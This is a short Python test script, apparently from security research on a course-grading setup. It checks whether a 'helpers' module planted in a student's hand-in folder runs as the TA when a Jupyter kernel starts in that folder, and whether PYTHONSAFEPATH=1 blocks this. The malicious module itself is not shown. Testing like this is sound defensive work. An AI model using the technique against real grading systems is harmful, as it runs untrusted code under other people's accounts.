"""a06 from the hand-in's own folder (submitted/), which make lab's file browser also shows: the TA opens the
hand-in and runs its setup cell. Uses a06's course (run a06 first)."""
import os
from jupyter_client.manager import KernelManager
MARK = "/tmp/attack36-root-PWNED6.txt"
folder = "/tmp/attack36-root-a06/submitted/mallory/ps1_memory"
print(sorted(os.listdir(folder)))
for label, extra in (("make lab's environment", {}), ("PYTHONSAFEPATH=1", {"PYTHONSAFEPATH": "1"})):
    if os.path.exists(MARK): os.remove(MARK)
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONSAFEPATH", "PYTHONPATH")}; env.update(extra)
    km = KernelManager(kernel_name="python3"); km.start_kernel(cwd=folder, env=env)
    kc = km.client(); kc.start_channels(); kc.wait_for_ready(60)
    kc.execute_interactive("import helpers; print(helpers.__file__)", timeout=60,
                           output_hook=lambda m: print("kernel:", m["content"].get("text", "").strip()) if m["msg_type"] == "stream" else None)
    kc.stop_channels(); km.shutdown_kernel(now=True)
    print(label, "-> ran as the TA:", open(MARK).read().strip() if os.path.exists(MARK) else "nothing")
if os.path.exists(MARK): os.remove(MARK)
